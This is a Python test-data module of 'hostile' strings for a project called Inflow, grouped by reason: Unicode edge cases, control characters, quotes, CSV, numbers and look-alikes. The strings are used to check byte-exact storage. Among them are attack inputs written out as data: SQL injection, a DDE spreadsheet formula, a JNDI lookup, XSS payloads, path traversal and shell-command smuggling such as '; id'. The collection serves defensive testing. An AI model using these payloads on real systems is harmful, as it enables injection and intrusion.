"""Hundreds of strings that break careless code, by reason; all written for this project.

Each is a text that Inflow must keep byte for byte: never empty, valid Unicode without U+0000, at most 255
characters. Invisible characters and characters that an editor might normalise are written as escapes.
"""

import unicodedata
from itertools import chain

#: A name to which the generated strings add something around, inside or after it.
_WORD = "Word"


def _around(marks: str) -> tuple[str, ...]:
    """Return the word with each mark before, after and around it."""
    return tuple(text for mark in marks for text in (mark + _WORD, _WORD + mark, f"{_WORD}{mark}{_WORD}"))


def _in_both_forms(*texts: str) -> tuple[str, ...]:
    """Return each text composed and decomposed: they look the same, but have different bytes."""
    return tuple(unicodedata.normalize(form, text) for text in texts for form in ("NFC", "NFD"))


_EMOJI = (
    "😀",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",  # a family of four, joined
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f468\U0001f469\U0001f467\U0001f466",  # the same four, not joined
    "\U0001f3f4\u200d\u2620\ufe0f",  # pirate flag
    "\U0001f3f3\ufe0f\u200d\U0001f308",  # rainbow flag
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # flag of Scotland, in tags
    "\U0001f1ec\U0001f1e7",  # flag of two regional indicators
    "\U0001f1ec",  # half a flag
    "\U0001f1e7\U0001f1ec",
    "\U0001f44d",
    "\U0001f44d\U0001f3fb",
    "\U0001f44d\U0001f3ff",
    "\U0001f3ff",  # only a skin tone
    "\u2764",
    "\u2764\ufe0e",  # heart as text
    "\u2764\ufe0f",  # heart as emoji
    "1\ufe0f\u20e3",  # keycap
    "\U0001f9d1\U0001f3fd\u200d\U0001f680",
    "\u200d\U0001f680",  # a joiner that joins nothing before it
    "Zoë 🎂 1984",
    "🙈🙉🙊",
)

_FOUR_BYTES = (
    "𝒜𝓃𝓃𝒶",
    "𝐁𝐨𝐥𝐝",
    "𠮷野家",  # differs from the next one by its first character only
    "吉野家",
    "𐌰𐌽𐌽𐌰",
    "𓀀𓁐",
    "𒀀𒁀",
    "🂡🃑",
    "\U0001f600" * 2,
    "\U00010000",
    "\U0010fffd",
    "𐐀",
    "𐐨",  # its lower case
)

_RIGHT_TO_LEFT = (
    "שָׁלוֹם",
    "שלום",
    "مرحبا",
    "مُحَمَّد",
    "محمد",
    "א1ב2",
    "abc שלום 123",
    "مرحبا world",
    "\u0627\u0644\u0644\u0647",
    "\ufdf2",  # the same word as one ligature
    "\ufdfd",
    "١٢٣٤",
    "\u0640\u0640\u0640",
)

_INVISIBLE = (
    *_around("\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u2063\ufe0f"),
    *_around("\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"),
    "\u200b",
    "\ufeff",
    "\u202egnp.exe",
    "user\u202e\u2066// admin\u2069\u2066",
    "\U000e0041\U000e0042",  # invisible tags
)

_CONTROLS = (
    *(f"a{chr(code)}b" for code in chain(range(0x01, 0x20), range(0x7F, 0xA0))),
    "\x01",
    "\x1a",  # the end of a file, to some
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x08\x08\x08",
    "\x7f",
    "\u2400",  # pictures of control characters
    "\u2400NUL",
    "\\0",
    "\\x00",
    "\\u0000",
    "%00",
    "&#0;",
    "\u0001\u0002\u0003",
)

_LINES = (
    *_around("\n\r\t\x0b\x0c\x85\u2028\u2029"),
    *(separator for separator in ("\n", "\r", "\t", "\r\n", "\n\r", "\n\n", "\u2028", "\u0085", "\x0b", "\x0c")),
    "one\r\ntwo",
    "one\ntwo\nthree",
    "\r\nleading",
    "trailing\r\n",
    'quoted"\r\n"line',
    "a\n\nb",
)

_SPACES = (
    *_around(" \u00a0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f\u3000"),
    *(" " * count for count in (1, 2, 3, 254, 255)),
    "\u00a0",
    "\u3000",
    " \t ",
    "\t\t",
    "Word  Word",
    "Word  ",
    "Word   ",
    "  Word",
    " W o r d ",
)

_QUOTES = (
    *("'", "''", "'''", '"', '""', '"""', "`", "``", "´", "'\"", "\"'", "'\"`"),
    *_around("'\"`´‘’‚‛“”„‟‹›«»′″＂＇"),
    "O'Hara",
    "D''Arcy",
    'Maria "Mia"',
    '"quoted"',
    "'quoted'",
    '"half',
    'half"',
    '""twice""',
    '"a","b"',
)

_BACKSLASHES = (
    *("\\", "\\\\", "\\\\\\", "\\'", '\\"', "\\n", "\\r\\n", "\\t", "\\N", "\\Z", "\\%", "\\_", "\\b"),
    "Word\\",
    "Word\\\\",
    "\\Word",
    "\\'; --",
    '\\","',
    "\\u0041",
    "\\x41",
    "\\101",
    "\\ud83d\\ude00",
    "a\\\nb",
    "\\.",
)

_SQL = (
    "'; DROP TABLE people; --",
    '"; DROP TABLE people; --',
    "' OR '1'='1",
    "' OR 1=1 -- ",
    "') OR ('a'='a",
    "1; SELECT SLEEP(9)",
    "' UNION SELECT NULL, NULL --",
    "/* comment */",
    "/*!50000 SELECT 1 */",
    "-- comment",
    "# comment",
    "`people`",
    "[people]",
    "%",
    "_",
    "100%",
    "a_b",
    "LIKE '%'",
    "NULL",
    "null",
    "DEFAULT",
    "CURRENT_TIMESTAMP",
    "@variable",
    "@@version",
    "$$dollar$$",
    "X'41'",
    "0x41",
    "N'text'",
    "_utf8mb4'text'",
    "CHAR(0)",
    "\N{MODIFIER LETTER APOSTROPHE}; DROP TABLE people; --",
    "select",
    "SELECT",
)

_JSON = (
    *("{}", "[]", "[", "]", "{", "}", "[null]", "[[]]", ":", "null,", "$[0]", "$.a", "$**.a"),
    '{"a": 1}',
    '{"a": "b", "a": "c"}',
    '["a", "b"]',
    '"],["',
    '"}',
    '{"__proto__": null}',
    '{"$ref": "#"}',
    "{'a': 'b'}",
    "[1, 2, 3",
)

_CSV = (
    *(",", ",,", ",,,", ";", "|", "a,b", "a;b", "a|b", "a\tb,c", ",leading", "trailing,", "a, b", "a ,b"),
    '","',
    '",',
    ',"',
    'a,"b",c',
    '"a,b"',
    "a,b\nc,d",
    'a"\n"b',
    "given_name,family_name,date_of_birth,place_of_birth",
    "sep=,",
    "#not a comment",
    "Stone, the Younger",
    "\ufeffgiven_name",
)

_FORMULAS = (
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1",
        "@SUM(A1:A9)",
        "=",
        "+",
        "-",
        "@",
        "=A1",
        "-2+3",
        "+A1",
        "--1",
    ),
    '=HYPERLINK("http://example.invalid","click")',
    "=IMPORTXML(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    "DDE|A",
)

_NUMBERS = (
    *(
        "0",
        "00",
        "-0",
        "+0",
        "1e5",
        "1E5",
        "0x1F",
        "0b1",
        "0o7",
        "1_000",
        "1,000.00",
        "1.000,00",
        ".5",
        "5.",
        "007",
    ),
    *(
        "NaN",
        "nan",
        "Infinity",
        "-inf",
        "1e309",
        "9223372036854775808",
        "99999999999999999999",
        "1/2",
        "½",
        "²",
    ),
    *("٣", "３", "Ⅷ", "一", "1.0", "1", "01", "1 ", " 1"),
    *("1984-12-31", "31/12/1984", "0000-00-00", "1/2/3", "12:30", "1984-12-31T23:59:00Z", "SEPT1", "MARCH1"),
)

_NOTHINGS = (
    *(
        "None",
        "nil",
        "undefined",
        "(null)",
        "N/A",
        "n/a",
        "NA",
        "<NULL>",
        "\\null",
        "NULL ",
        "#N/A",
        "#REF!",
        "?",
    ),
    *("true", "false", "True", "TRUE", "yes", "no", "on", "off", "void", "empty", "...", "…"),
)

_TEMPLATES = (
    *(
        "%s",
        "%d",
        "%%",
        "%n",
        "%x%x%x",
        "%(x)s",
        "%(load)s",
        "{0}",
        "{x}",
        "{x!r}",
        "{{x}}",
        "{{{x}}}",
        "{0.__class__}",
    ),
    *(
        "${x}",
        "$x",
        "$(id)",
        "`id`",
        "#{x}",
        "<%= x %>",
        "{% x %}",
        ":name",
        "::name",
        "?1",
        "$1",
        "%1$s",
        "@name",
    ),
    "${jndi:ldap://example.invalid/a}",
    "{:>1000000}",
)

_PATHS = (
    *(
        "/",
        ".",
        "..",
        "~",
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/dev/null",
        "C:\\",
        "C:\\new\\table",
        "CON",
        "nul",
    ),
    *(
        "file:///etc/passwd",
        "\\\\server\\share",
        "a/b",
        "a//b",
        "./a",
        "a/../b",
        "*",
        "?*",
        "[a-z]*",
        "~root",
        "|id",
    ),
    *("&& id", "; id", "> out", "-rf", "--help", "%2e%2e%2f", "people.csv", ".part"),
)

_MARKUP = (
    *(
        "<b>",
        "</b>",
        "<",
        ">",
        "&",
        "&amp;",
        "&amp;amp;",
        "&lt;b&gt;",
        "&#x41;",
        "<!-- -->",
        "<![CDATA[",
        "]]>",
        "<?xml?>",
    ),
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    '"><svg onload=alert(1)>',
    "<a href='x'>x</a>",
    "[x](javascript:alert(1))",
    "**bold** _it_",
    "</script><script>",
)

#: Pairs that a careless collation regards as equal; both are included, and both must be kept.
_CASE_PAIRS = (
    *("A", "a", "word", "Word", "WORD", "ß", "ss", "SS", "ẞ", "straße", "strasse", "STRASSE"),
    *(
        "İ",
        "i",
        "I",
        "ı",
        "i\u0307",
        "ſ",
        "s",
        "S",
        "K",
        "k",
        "\u212a",
        "å",
        "\u212b",
        "Σ",
        "σ",
        "ς",
        "ΟΔΟΣ",
        "οδος",
    ),
    *("ǅ", "Ǆ", "ǆ", "ᲁ", "д", "Д", "ა", "Ა", "Ⓐ", "ⓐ", "ﬀ", "ff", "ŉ", "ʼn"),
)

_ACCENT_PAIRS = (
    *(
        "Jose",
        "Zoe",
        "Angstrom",
        "Muller",
        "Mueller",
        "Oslo",
        "Øslo",
        "Lodz",
        "Łodz",
        "Łódź",
        "resume",
        "naive",
    ),
    *_in_both_forms("José", "Zoë", "Ångström", "Müller", "Škoda", "Việt", "ệ", "각", "が", "й", "ά", "résumé"),
    *("æ", "ae", "Æ", "œ", "oe", "ð", "þ", "đ", "d", "n", "ñ", "e", "é", "ё", "е"),
)

_COMBINING = (
    "\u0301",  # an accent without a base character
    "a\u0323\u0307",
    "a\u0307\u0323",  # the same marks in the other order
    "a" + "\u0301" * 100,
    "Z\u0351\u036b\u0343a\u0363\u0367l\u0348g\u0353o\u0300\u0301\u0302",
    "नमस्ते",
    "क्ष",
    "क\u094d\u200dष",
    "ก็",
    "\u0e33",
    "\u0958",  # decomposed by every normal form, the composed one too
    "\u0915\u093c",
    "\u1e9b\u0323",
)

_WIDTHS = (
    *(
        "Ａ",
        "ａ",
        "Ｗｏｒｄ",
        "ｶﾞ",
        "ガ",
        "ｱ",
        "ア",
        "あ",
        "ぁ",
        "ｰ",
        "ー",
        "一一",
        "―",
        "–",
        "—",
        "‐",
        "‑",
        "−",
        "－",
    ),
    *("\uff0c", "\uff1b", "（", "１２３", "①", "㈱", "㌔", "ﬁ", "fi", "™", "TM", "℃", "㎏"),
    *("а", "о", "р", "\u0430dmin", "admin", "paypal", "p\u0430ypal"),
)

_ODD_CODE_POINTS = (
    *_around("\ufffe\uffff\ufffd\ue000\uf8ff\ufdd0\U0001fffe\U0010ffff\U000f0000\u0378"),
    "\ufffe",
    "\uffff",
    "\ufffd",
    "\ufffc",
    "\ufff9annotated\ufffabase\ufffb",
)

_LONG = (
    "x" * 255,
    "X" * 255,
    "x" * 254 + "y",
    "x" * 254 + " ",
    "é" * 255,
    "語" * 255,
    "😀" * 255,
    "😀" * 254 + "😁",
    "\U0010ffff" * 255,
    "'" * 255,
    '"' * 255,
    "\\" * 255,
    "\n" * 255,
    "\x01" * 255,
    "," * 255,
    "e\u0301" * 127,
    "ab" * 127,
    "ﷺ" * 255,
)

HOSTILE_BY_REASON: dict[str, tuple[str, ...]] = {
    "emoji": _EMOJI,
    "characters of four bytes": _FOUR_BYTES,
    "right to left": _RIGHT_TO_LEFT,
    "invisible": _INVISIBLE,
    "control characters": _CONTROLS,
    "line separators": _LINES,
    "spaces": _SPACES,
    "quotes": _QUOTES,
    "backslashes": _BACKSLASHES,
    "SQL": _SQL,
    "JSON": _JSON,
    "CSV": _CSV,
    "formulas": _FORMULAS,
    "like a number or a date": _NUMBERS,
    "like nothing": _NOTHINGS,
    "templates": _TEMPLATES,
    "paths and shells": _PATHS,
    "markup": _MARKUP,
    "pairs by case": _CASE_PAIRS,
    "pairs by accent": _ACCENT_PAIRS,
    "combining": _COMBINING,
    "widths and look-alikes": _WIDTHS,
    "odd code points": _ODD_CODE_POINTS,
    "long": _LONG,
}

HOSTILE_STRINGS: tuple[str, ...] = tuple(chain.from_iterable(HOSTILE_BY_REASON.values()))
